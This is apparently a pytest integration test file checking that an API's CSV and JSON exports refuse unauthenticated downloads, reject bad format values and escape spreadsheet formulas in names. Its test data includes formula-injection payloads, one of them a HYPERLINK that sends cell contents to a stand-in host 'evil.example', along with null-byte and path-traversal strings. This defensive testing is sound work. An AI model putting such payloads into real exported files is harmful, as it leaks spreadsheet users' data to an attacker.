"""The table exports (docs/api.md, "Exports") against a real stack without a worker (Redis + API) whose reads are
private: anonymous and wrongly authenticated downloads are refused, a ``format`` other than json or csv answers 422
naming the choices (never a 500, never a file), names that a spreadsheet would run as formulas are written as text,
the distances of a job still in flight answer 409 instead of a partial table, and the dashboard's Export callback
replayed without credentials downloads nothing."""

from __future__ import annotations

import csv
import io
import json

import httpx
import pytest

from tests.security.stacks import api_only
from toroid.store.artifacts import state_dict_bytes

pytestmark = pytest.mark.integration

TOKEN = "exports-admin-token-0123456789"
BEARER = {"Authorization": f"Bearer {TOKEN}"}
CONFIG = {"widths": [8]}
#: Names a spreadsheet would run as formulas (the full-width ＝ too), and two it would not.
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\uff1dcmd"]
PLAIN = ["a=b", "sgd-0"]
TABLES = ["/api/minima", "/api/analyses/flatness"]


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    yield from api_only(tmp_path_factory, "exports", {"TOROID_API_TOKEN": TOKEN, "TOROID_PUBLIC_READS": "false"})


@pytest.fixture(scope="module")
def minima(stack) -> dict[str, str]:
    """One upload per name (evaluations stay queued: no worker): name -> id."""
    from toroid.worker.landscape import build_model, load_dataset

    data = load_dataset("digits")
    ids = {}
    for seed, name in enumerate(FORMULAS + PLAIN):
        model = build_model("mlp", CONFIG, data, seed=seed)
        response = httpx.post(f"{stack.url}/api/minima", headers=BEARER, timeout=60,
                              files={"file": ("m.safetensors", state_dict_bytes(model.state_dict()))},
                              data={"architecture": "mlp", "config": json.dumps(CONFIG), "dataset": "digits",
                                    "name": name})
        assert response.status_code == 201, response.text
        ids[name] = response.json()["id"]
    return ids


def downloads(stack, minima: dict[str, str], fmt: str) -> list[tuple[str, list[tuple[str, str]]]]:
    """(url, query) of each table in format ``fmt``: the two listings and the distances of the plain names."""
    return [*((f"{stack.url}{table}", [("format", fmt)]) for table in TABLES),
            (f"{stack.url}/api/analyses/distances", [*(("minimum_ids", minima[n]) for n in PLAIN), ("format", fmt)])]


def test_anonymous_and_wrong_credentials_get_no_table(stack, minima):
    for url, query in downloads(stack, minima, "csv"):
        anonymous = httpx.get(url, params=query)
        assert anonymous.status_code == 401 and anonymous.headers["www-authenticate"] == "Bearer", url
        assert "TOROID_PUBLIC_READS=false" in anonymous.json()["detail"]
        assert httpx.get(url, params=query, headers={"Authorization": "Bearer wrong"}).status_code == 401
        assert httpx.get(url, params=query, cookies={"toroid_session": "wrong"}).status_code == 401
        assert "text/csv" not in anonymous.headers["content-type"]
    for table in TABLES:
        assert httpx.get(f"{stack.url}{table}?format=csv", headers=BEARER).status_code == 200


@pytest.mark.parametrize("value", ["xml", "CSV", "", "csv ", "csv\x00", "json,csv", "../csv", "x" * 5000])
def test_formats_other_than_json_and_csv_are_refused(stack, minima, value):
    for url, query in downloads(stack, minima, value):
        response = httpx.get(url, params=query, headers=BEARER)
        assert response.status_code == 422, (url, value, response.text)
        assert response.json()["message"] == "query.format: Input should be 'json' or 'csv'"
    repeated = httpx.get(f"{stack.url}/api/minima?format=csv&format=xml", headers=BEARER)
    assert repeated.status_code == 422  # the last value counts; never a 500


def test_formula_names_are_written_as_text(stack, minima):
    response = httpx.get(f"{stack.url}/api/minima", params={"format": "csv"}, headers=BEARER)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="toroid-minima.csv"'
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.text))}
    for name, minimum_id in minima.items():
        expected = f"'{name}" if name in FORMULAS else name
        assert rows[minimum_id]["name"] == expected
    records = {m["id"]: m for m in httpx.get(f"{stack.url}/api/minima", headers=BEARER).json()}
    assert {records[i]["name"] for i in minima.values()} == set(minima)  # the JSON keeps the names as they are
    assert all(row["train_error"] == "" and row["local_energy"] == "" for row in rows.values())  # not evaluated


def test_distances_in_flight_answer_409_not_a_partial_table(stack, minima):
    ids = [minima[name] for name in PLAIN]
    asked = httpx.post(f"{stack.url}/api/analyses/distances", json={"minimum_ids": ids}, headers=BEARER)
    assert asked.status_code == 202  # no worker: it stays queued
    job = asked.json()["job"]["id"]
    url, query = downloads(stack, minima, "csv")[-1]
    table = httpx.get(url, params=query, headers=BEARER)
    assert table.status_code == 409 and job in table.json()["detail"]
    url, query = downloads(stack, minima, "json")[-1]
    assert httpx.get(url, params=query, headers=BEARER).status_code == 202
    unknown = httpx.get(f"{stack.url}/api/analyses/distances?minimum_ids=nope&minimum_ids={ids[0]}&format=csv",
                        headers=BEARER)
    assert unknown.status_code == 404


def export_callback(table: str) -> dict:
    """The body the dashboard's page posts when the header's Export menu button of ``table`` is clicked."""
    button = {"at": "header", "table": table, "type": "csv-export"}
    return {"output": "..csv-download.data...export-message.children..",
            "outputs": [{"id": "csv-download", "property": "data"}, {"id": "export-message", "property": "children"}],
            "inputs": [[{"id": button, "property": "n_clicks", "value": 1}]],
            "changedPropIds": [json.dumps(button, sort_keys=True, separators=(",", ":")) + ".n_clicks"],
            "state": [{"id": "distances-store", "property": "data", "value": None}]}


def test_the_dashboards_export_acts_with_its_callers_credentials(stack, minima):
    """The Export menu's callback replayed without credentials reads nothing: the dashboard fetches the table with
    the caller's session cookie, never with the server's rights."""
    callback = f"{stack.url}/dashboard/_dash-update-component"
    for table in ("minima", "flatness"):
        anonymous = httpx.post(callback, json=export_callback(table), timeout=30)
        assert anonymous.status_code == 200 and "TOROID_PUBLIC_READS=false" in anonymous.text
        assert "csv-download" not in anonymous.json()["response"]
        wrong = httpx.post(callback, json=export_callback(table), cookies={"toroid_session": "wrong"}, timeout=30)
        assert "csv-download" not in wrong.json()["response"] and "wrong" in wrong.text
    signed_in = httpx.post(callback, json=export_callback("minima"), cookies={"toroid_session": TOKEN}, timeout=30)
    download = signed_in.json()["response"]["csv-download"]["data"]
    assert download["filename"] == "toroid-minima.csv" and download["content"].startswith("id,name,architecture")
    assert "'=HYPERLINK" in download["content"]
